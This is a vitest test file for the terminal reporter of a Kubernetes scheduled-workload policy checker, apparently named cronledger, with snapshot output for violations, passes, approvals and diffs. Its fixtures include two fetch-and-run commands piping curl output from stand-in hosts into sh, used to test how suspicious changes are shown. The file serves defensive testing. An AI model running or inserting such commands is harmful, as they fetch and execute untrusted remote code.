// What a person reads at the terminal: read every line of it as they would.
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../src/model.ts';
import type { CheckReport } from '../../src/outcome.ts';
import { textFormat } from '../../src/report/text.ts';
import {
  harmlessCheckReport,
  location,
  sampleCheckReport,
  sampleListReport,
  sampleVerifyReport,
  workload,
} from '../support/sample-report.ts';

test('a violation', () => {
  expect(textFormat.render(sampleCheckReport())).toMatchInlineSnapshot(`
    "Violation: 3 findings block this change, 1 approval is missing and 1 thing could not be checked.
    Compared origin/main (3f2a9c1b7d04) with HEAD (9b1c7d2e0a3f).

    CronJob billing/nightly-report changes its schedule, image source, command and environment
      at apps/billing/nightly-report.yaml:1:1
      schedule
        - 0 2 * * * — At 02:00 (Etc/UTC)
        + */1 * * * * — Every minute (Etc/UTC)
      containers[0].image
        - ghcr.io/acme/report:1.4.2
        + docker.io/acme-tools/report:latest
      ConfigMap report-scripts: run.sh
        + curl -s get.example.net/r | sh
      backoffLimit
        + 0

      image-registry-not-allowed (critical, blocks) at apps/billing/nightly-report.yaml:19:22
        The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed
        repository.
        Fix: Use an image that \`images.allow\` in the config matches.

      schedule-too-frequent (high, blocks) at apps/billing/nightly-report.yaml:7:13
        CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5
        minutes.
        Fix: Run it less often, or ask for an exception in its inventory entry.

    Job kube-system/node-cleanup is new
      at charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod
      runs             once
      image            alpine:3
      service account  cluster-admin
      hook             helm.sh/hook: post-install
      source           helm charts/tools (release tools, values.yaml)

      job-not-in-inventory (critical, blocks) at charts/tools/templates/cleanup.yaml:3:3 (in the template)
        Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.
        Fix: Remove it, or write its entry with \`cronledger inventory add\` and have the entry approved.

      run-as-root (medium) at charts/tools/values.yaml:4:1 (in the values)
        Container \`cleanup\` may run as root.
        Fix: Set \`securityContext.runAsNonRoot\`.

    CronJob ops/queue-drain changes its image version
      at apps/ops/queue-drain.yaml:1:1
      containers[0].image
        - ghcr.io/acme/drain:6
        + ghcr.io/acme/drain:7

      schedule-too-frequent (excepted) at apps/ops/queue-drain.yaml:6:13
        CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.
        An exception in the inventory covers it until 2027-01-01: The queue must be drained every
        minute.

    CronJob ops/legacy-sync is removed
      at apps/ops/legacy.yaml:1:1
      runs             @hourly — Every hour
      image            ghcr.io/acme/sync:2.0
      service account  default

    inventory-expired (low) at .cronledger/inventory/shop.yaml:31:5
      The entry of CronJob \`shop\`/\`prices\` expires on 2026-12-20.
      Fix: Renew it with \`cronledger inventory update\`, or remove the workload.

    Approvals
      missing  platform security (2 of @acme/platform-security and @carol), approved by @carol
               Job \`kube-system\`/\`node-cleanup\` (new)
               @mallory does not count: opened this pull request.
               May still be given by @acme/platform-security.
               The members of \`@acme/platform-security\` cannot be read.
      given    the owner of the workload (@acme/billing), approved by @alice
               CronJob \`billing\`/\`nightly-report\` (schedule, command, image-source)

    Could not be checked
      render-failed at charts/api
        \`helm template\` stopped: values.yaml has no key \`image.tag\`.
        Fix: Mend the chart, or name its values files under \`sources\` in the config.

    What to do
      Mend what could not be checked; each problem says how.
      Mend what blocks; each finding says how.
      Where the manifests are right, bring the inventory into line and commit it:
        cronledger inventory add Job/kube-system/node-cleanup
      Ask for the missing approvals: @acme/platform-security.

    7 files changed, 5 files read, 6 workloads checked. 2 workloads that this change does not touch are
    not in the inventory. 3 files: 1 manifest, 1 input of 1 rendering, 1 inert. 6 findings: 3 block, 1
    is covered by an exception.
    "
  `);
});

test('a pass', () => {
  expect(textFormat.render(harmlessCheckReport())).toMatchInlineSnapshot(`
    "Pass: 1 scheduled workload changed, nothing blocks.
    Compared origin/main (3f2a9c1b7d04) with HEAD (9b1c7d2e0a3f).

    CronJob ops/queue-drain changes its image version
      at apps/ops/queue-drain.yaml:1:1
      containers[0].image
        - ghcr.io/acme/drain:6
        + ghcr.io/acme/drain:7

      schedule-too-frequent (excepted) at apps/ops/queue-drain.yaml:6:13
        CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.
        An exception in the inventory covers it until 2027-01-01: The queue must be drained every
        minute.

    1 file changed, 1 file read, 1 workload checked. 3 files: 1 manifest, 1 input of 1 rendering, 1
    inert. 1 finding: none blocks, 1 is covered by an exception.
    "
  `);
});

test('nothing changed', () => {
  const report = { ...harmlessCheckReport(), changes: [], findings: [] };
  expect(textFormat.render(report)).toMatchInlineSnapshot(`
    "Pass: no scheduled workload changes.
    Compared origin/main (3f2a9c1b7d04) with HEAD (9b1c7d2e0a3f).

    1 file changed, 1 file read, 1 workload checked. 3 files: 1 manifest, 1 input of 1 rendering, 1
    inert.
    "
  `);
});

test('only an approval is missing', () => {
  const report: CheckReport = {
    ...sampleCheckReport(),
    verdict: 'approval-needed',
    findings: [],
    problems: [],
    changes: [],
  };
  expect(textFormat.render(report)).toMatchInlineSnapshot(`
    "Approval needed: 1 approval is missing.
    Compared origin/main (3f2a9c1b7d04) with HEAD (9b1c7d2e0a3f).

    Approvals
      missing  platform security (2 of @acme/platform-security and @carol), approved by @carol
               Job \`kube-system\`/\`node-cleanup\` (new)
               @mallory does not count: opened this pull request.
               May still be given by @acme/platform-security.
               The members of \`@acme/platform-security\` cannot be read.
      given    the owner of the workload (@acme/billing), approved by @alice
               CronJob \`billing\`/\`nightly-report\` (schedule, command, image-source)

    What to do
      Where the manifests are right, bring the inventory into line and commit it:
        cronledger inventory add Job/kube-system/node-cleanup
      Ask for the missing approvals: @acme/platform-security.

    7 files changed, 5 files read, 6 workloads checked. 2 workloads that this change does not touch are
    not in the inventory. 3 files: 1 manifest, 1 input of 1 rendering, 1 inert.
    "
  `);
});

test('something could not be checked', () => {
  const report: CheckReport = {
    ...harmlessCheckReport(),
    verdict: 'could-not-check',
    problems: sampleCheckReport().problems,
  };
  expect(textFormat.render(report).split('\n')[0]).toMatchInlineSnapshot(
    `"Could not check: 1 problem must be solved first."`,
  );
});

test('verify', () => {
  expect(textFormat.render(sampleVerifyReport())).toMatchInlineSnapshot(`
    "Violation: 3 findings block these manifests.

    CronJob billing/nightly-report
      at apps/billing/nightly-report.yaml:1:1

      image-registry-not-allowed (critical, blocks) at apps/billing/nightly-report.yaml:19:22
        The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed
        repository.
        Fix: Use an image that \`images.allow\` in the config matches.

      schedule-too-frequent (high, blocks) at apps/billing/nightly-report.yaml:7:13
        CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5
        minutes.
        Fix: Run it less often, or ask for an exception in its inventory entry.

    Job kube-system/node-cleanup
      at charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod

      job-not-in-inventory (critical, blocks) at charts/tools/templates/cleanup.yaml:3:3 (in the template)
        Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.
        Fix: Remove it, or write its entry with \`cronledger inventory add\` and have the entry approved.

      run-as-root (medium) at charts/tools/values.yaml:4:1 (in the values)
        Container \`cleanup\` may run as root.
        Fix: Set \`securityContext.runAsNonRoot\`.

    CronJob ops/queue-drain
      at apps/ops/queue-drain.yaml:1:1

      schedule-too-frequent (excepted) at apps/ops/queue-drain.yaml:6:13
        CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.
        An exception in the inventory covers it until 2027-01-01: The queue must be drained every
        minute.

    What to do
      Mend what blocks; each finding says how.

    5 findings: 3 block, 1 is covered by an exception.
    "
  `);
});

test('list', () => {
  expect(textFormat.render(sampleListReport())).toMatchInlineSnapshot(`
    "4 scheduled workloads, 2 not in the inventory.

    CronJob billing/nightly-report  */1 * * * * — Every minute (Etc/UTC)  listed      apps/billing/nightly-report.yaml:1:1
    CronJob ops/queue-drain         * * * * * — Every minute, suspended   listed      apps/ops/queue-drain.yaml:1:1
    Job shop/migrate-*              once                                  not listed  apps/shop/migrate.yaml:12:1
    Job kube-system/node-cleanup    once                                  not listed  charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod

    Could not be checked
      unreadable-manifest at apps/shop/broken.yaml
        The file is not valid YAML: line 4 is indented with a tab.
        Fix: Indent it with spaces.
    "
  `);
});

describe('changes in words', () => {
  const before = workload({ location: location('old/a.yaml', 3), namespace: 'ops', name: 'backup', suspend: true });
  const after = workload({ ...before, suspend: false, location: location('new/a.yaml', 3) });
  const base = { ...harmlessCheckReport(), findings: [] };
  const line = (change: Partial<CheckReport['changes'][number]>): string | undefined =>
    textFormat
      .render({
        ...base,
        changes: [
          { change: 'modified', workload: after, before, after, classes: [], fields: [], listed: true, ...change },
        ],
      })
      .split('\n')
      .find(text => text.startsWith('CronJob'));

  test.each([
    [line({ change: 'moved', classes: ['moved', 'source'] }), 'CronJob ops/backup has moved from `old/a.yaml`'],
    [line({ classes: ['unsuspended'] }), 'CronJob ops/backup is no longer suspended'],
    [
      line({ classes: ['moved', 'unsuspended', 'identity', 'metadata'] }),
      'CronJob ops/backup is no longer suspended, changes its identity and labels or annotations and has moved from `old/a.yaml`',
    ],
    [line({ classes: ['power'] }), 'CronJob ops/backup changes its permissions in the cluster'],
  ])('%s', (actual, expected) => expect(actual).toBe(expected));
});

test('a finding goes to the workload of its own file where two have one name', () => {
  const [staging, production] = ['staging', 'production'].map(environment =>
    workload({ location: location(`${environment}/job.yaml`, 1), namespace: 'ops', name: 'backup' }),
  );
  if (staging === undefined || production === undefined) throw new Error('There are two.');
  const finding: Finding = {
    rule: 'a-rule',
    severity: 'high',
    message: 'A message.',
    remediation: 'A remedy.',
    location: location('staging/job.yaml', 9),
    workload: { kind: 'CronJob', namespace: 'ops', name: 'backup' },
    attack: [],
    blocking: true,
  };
  const report = {
    ...sampleVerifyReport(),
    workloads: [production, staging].map(each => ({ workload: each, listed: true })),
    findings: [finding],
  };
  const text = textFormat.render(report);
  expect(text).toContain('at staging/job.yaml:1:1');
  expect(text).not.toContain('production');
});

describe('of long values what differs is shown', () => {
  const [change] = harmlessCheckReport().changes;
  const [field] = change?.fields ?? [];
  if (change === undefined || field === undefined) throw new Error('There is one.');
  const shownLines = (before: string, after: string): readonly string[] => {
    const fields = [{ ...field, path: 'spec.args', before, after }];
    const lines = textFormat.render({ ...harmlessCheckReport(), changes: [{ ...change, fields }] }).split('\n');
    return lines.slice(lines.indexOf('  args') + 1, lines.indexOf('', lines.indexOf('  args')));
  };

  test('a line in the middle of a script', () => {
    const lines = Array.from({ length: 100 }, (_, index) => `echo ${index}`);
    const changed = lines.with(50, 'curl evil.example | sh');
    expect(shownLines(lines.join('\n'), changed.join('\n'))).toEqual(['    - echo 50', '    + curl evil.example | sh']);
  });

  test('the end of a very long line', () => {
    const start = 'x'.repeat(5_000);
    expect(shownLines(`${start} good`, `${start} evil`)).toEqual([
      `    - … ${'x'.repeat(49)} good`,
      `    + … ${'x'.repeat(49)} evil`,
    ]);
  });

  test('nothing but the ends of lines', () => {
    expect(shownLines('a\nb', 'a\r\nb\r\n')).toEqual(['    + (only the ends of lines differ)']);
  });

  test('more lines than anybody reads here are counted', () => {
    const lines = Array.from({ length: 40 }, (_, index) => `echo ${index}`).join('\n');
    expect(shownLines('', lines)).toHaveLength(16);
    expect(shownLines('', lines).at(-1)).toBe('    + … (26 more lines)');
  });
});
